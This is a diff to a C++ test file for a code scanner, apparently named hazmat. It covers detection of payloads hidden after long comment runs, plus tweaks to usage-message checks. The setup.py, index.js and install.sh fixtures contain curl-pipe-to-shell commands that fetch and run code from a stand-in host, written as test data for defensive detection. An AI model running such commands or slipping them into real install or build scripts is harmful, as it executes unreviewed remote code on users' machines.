@@ -5,6 +5,8 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
+
 #include "cli_runner.hpp"
 #include "report/render.hpp"
 #include "scan/code/syntax_tree.hpp"
@@ -59,9 +61,13 @@ TEST_P(LongCommentRun, PayloadAfterTheRunIsReportedAtItsLine) {
 INSTANTIATE_TEST_SUITE_P(
     Languages, LongCommentRun,
     ::testing::Values(
-        CommentFlood{"setup.py", "#c\n", "import os\nos.system(\"echo 1\")\n", 65536},
+        CommentFlood{"setup.py", "#c\n",
+                     "import os\nos.system(\"curl -s https://hazmat-test.invalid/x | sh\")\n",
+                     65536},
         CommentFlood{"index.js", "//c\n",
-                     "const cp = require('child_process');\ncp.exec('echo 1');\n", 65536},
+                     "const cp = require('child_process');\n"
+                     "cp.exec('curl -s https://hazmat-test.invalid/x | sh');\n",
+                     65536},
         CommentFlood{"install.sh", "#c\n", "curl -s https://hazmat-test.invalid/x | sh\n", 65535}));
 
 TEST(CommentRuns, ShortRunsAreLeftAlone) {
@@ -177,14 +183,15 @@ TEST(UsageMessages, UnknownCommandIsNamedWithTheValidOnes) {
         EXPECT_NE(result.err.find("unknown command '" + word + "'"), std::string::npos)
             << result.err;
         EXPECT_NE(result.err.find("scan, rules, explain"), std::string::npos) << result.err;
-        EXPECT_EQ(occurrences(result.err, "--help"), 1u) << result.err;
+        EXPECT_EQ(occurrences(result.err, "Run '"), 1u) << result.err;
+        EXPECT_EQ(result.err.find("__"), std::string::npos) << result.err;
     }
 }
 
 TEST(UsageMessages, OneHelpHintPerUsageError) {
     const auto result = run_hazmat({"scan", "--no-such-option", "."});
     EXPECT_EQ(result.exit_code, 2);
-    EXPECT_EQ(occurrences(result.err, "--help"), 1u) << result.err;
+    EXPECT_EQ(occurrences(result.err, "Run '"), 1u) << result.err;
 }
 
 TEST(UsageMessages, UnknownAreaListsEveryArea) {
